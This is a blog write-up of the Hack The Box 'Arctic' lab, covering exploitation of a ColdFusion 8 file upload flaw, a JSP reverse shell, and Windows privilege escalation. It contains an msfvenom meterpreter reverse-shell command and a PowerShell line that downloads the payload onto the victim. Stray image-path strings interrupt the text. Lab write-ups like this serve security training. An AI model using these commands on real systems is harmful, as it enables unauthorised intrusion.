Hack The Box – Arctic – writeup

Arctic is a vulnerable windows box showing the risks of running an unpatched Coldfusion server and a very out dated windows 2008 r2 server.

First step as standard is to run a nmap scan and see what ports are available to us:1

There are 3 ports visible from the scan, port 135 and 49154 are standard for RPC and they are present on a lot of HTB boxes. the mystery port 8500 is unknown to nmap so lets take a look at that one first. Google tells us it’s the default port for Adobe Coldfusion.


Visiting the host on port 8500 using a browser gives us a directory to we can navigate. the letters CF at the start of the names are another clue pointing to this being a Coldfusion server.


For whatever reason this directory takes absolutely ages to load each page so to make things easier I tried loading every page I saw in a new tab and went away for 10 minutes to make a cup of tea while they loaded.


The CFIDE folder contained an administrator page which is all the confirmation we need about this being a Coldfusion host. It also tells us this is version 8.


Some more Google enumeration tells us that version 8 came out in 2007, if this is a base install then there willalmost certainly be many different vulnerabilities out by now we could use to try and break into this box (nothing stays secure forever):


Searching on exploit-db by date we can see a few cross site scripting vulnerabilities but more helpfully an arbitrary file upload.


Taking a quick look at the code it seems like a small ruby script which exploits the FCKeditor upload functionality, it also has a module in Metasploit which makes things easier for us.


If you launch Msfconsole and search for “Coldfusion”, there are a few results. Looks like number 7 most closely matches what we found in exploit-db. The only difference is the date.9

The exploit only requires a remote host and remote port.


Unfortunately it fails when run. Time to start trying harder!


The next step felt like I got a bit lucky. When an exploit fails to run one of the first things I check is whether the victim box is still up and running. Sometimes other users have broken it or a failed exploit causes it to crash so you need to give it a reboot beforecontinuing. As a test I refreshed the IE page and when it came back I saw it had a new folder called “userfiles”. So the exploit hadn’t totally failed , looks likes it had managed to upload at least some files:


This new folder contains a .jsp file which is likely the exploit Metasploit had uploaded but for whatever reason had failed to run. Lets setup up a listener and see if we can run it manually. The error from Metasploit earlier showed us that we expect to reverse shell to start talking on port 4444:


Now click on the .jsp


And it works! we are on the server as a user named tolis:The flag is in the expected location:


tolis doesn’t have admin rights so in order to get the root flag we’re going to have to start looking at what privilege escalation we have available to us. Systeminfo tells us that this is a server 2008 R2 system so unless it is patched up to the latest version we should be able to find a few things to try:


But before jumping straight into new exploits It’s always a good idea to try to improve whatever shell you managed to get as a foothold. In this instance we’re going to try and transfer this shell into the Metasploit meterpreter to take advantage of all the extra features it has over our basic shell. We can try to create a payload using msfvenom and hopefully it’ll let us upload it using the shell we currently have. We know the server is some sort of web server so it likely won’t have any problems if we use a HTTP reverse shell.

msfvenom -p windows/x64/meterpreter_reverse_http LHOST= LPORT=4567 -f jsp -o dodgyfile.exeNow to start the SimpleHTTPserver that comes with Kali:


And after a bit of trial and error we can download the payload to the victim server using this line:

powershell -c “(new-object System.Net.WebClient).DownloadFile(‘’,’superdodgy.exe’)”


Before we run it we need to setup the listener on our Kali box to be ready to catch the incoming connection, back in msfconsole we set the payload type, the host and port to listen on (Matching what we set in msfvenom previously):



Back on the victim machine lets run the payload and see if it works:


It connects instantly and we can start enjoying our new shell:One of the first things to try is the built in “getsystem” command within Meterpreter which tries a few quick privilege escalation methods. I don’t find that it works too often but it’s quick enough that it never hurts to try:


No luck. Another feature of the meterpreter shell is a post-exploit tool which can scan the system and suggest possible privilege escalations to try located at: /post/multi/recon/local_exploit_suggester which finds 11 possible exploits and after some quick tests suggests 4 of them are likely to work:


Starting at the top lets try ms10_092_schelevator after backgrounding our new shell


Setting our session option and running it looks promising at first but gives mixed messages about whether it has workedor not:


If we have another look at the options for this exploit it shows that the LHOST isn’t set correctly:


If we fix that to use the IP we have on the HTB network instead of on the local network the exploit works better andwe get our system shell:


Root flag is in the usual location:



Leave a Reply

Fill in your details below or click an icon to log in:

WordPress.com Logo

You are commenting using your WordPress.com account. Log Out /  Change )

Facebook photo

You are commenting usingyour Facebook account.Log Out /  Change )

Connecting to %s